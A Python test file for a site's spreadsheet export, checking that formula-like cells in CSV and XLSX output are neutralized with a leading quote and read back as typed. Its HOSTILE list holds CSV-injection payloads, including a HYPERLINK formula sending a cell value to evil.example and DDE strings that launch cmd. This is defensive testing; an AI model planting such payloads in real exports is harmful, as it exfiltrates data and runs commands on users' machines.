"""Cells that start like formulas are made inert in every CSV and XLSX the site writes
(spona/core/spreadsheets.py), and the importer reads them back as typed."""

import csv
import io

import pytest
from openpyxl import load_workbook

from spona.core.spreadsheets import csv_text, neutralize_formula, restore_neutralized, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&B2,"Open details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_text_is_written_after_a_quote_and_read_back_as_typed(value):
    written = neutralize_formula(value)

    assert written == "'" + value
    assert restore_neutralized(written) == value


@pytest.mark.parametrize("value", ["Udruženje", "'citat'", "2+2", "", "e-mail: a@b.org", -5, 12.5, None])
def test_everything_else_is_written_as_it_is(value):
    assert neutralize_formula(value) == value
    if isinstance(value, str):
        assert restore_neutralized(value) == value


def test_csv_cells_never_start_with_a_formula():
    text = csv_text(["Ime", "Napomena"], [["Ana", value] for value in HOSTILE])

    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row[1] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_xlsx_cells_are_text_shown_as_typed():
    content = xlsx_bytes(["Ime", "Napomena", "Broj"], [["Ana", value, -3] for value in HOSTILE], title="Učesnici")

    sheet = load_workbook(io.BytesIO(content)).active
    notes = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in notes] == [value.replace("\r", "\n") for value in HOSTILE]  # XML line ends
    assert {cell.data_type for cell in notes} == {"s"}
    assert all(cell.quotePrefix for cell in notes)
    assert sheet.cell(row=2, column=3).value == -3
    assert sheet.title == "Učesnici"
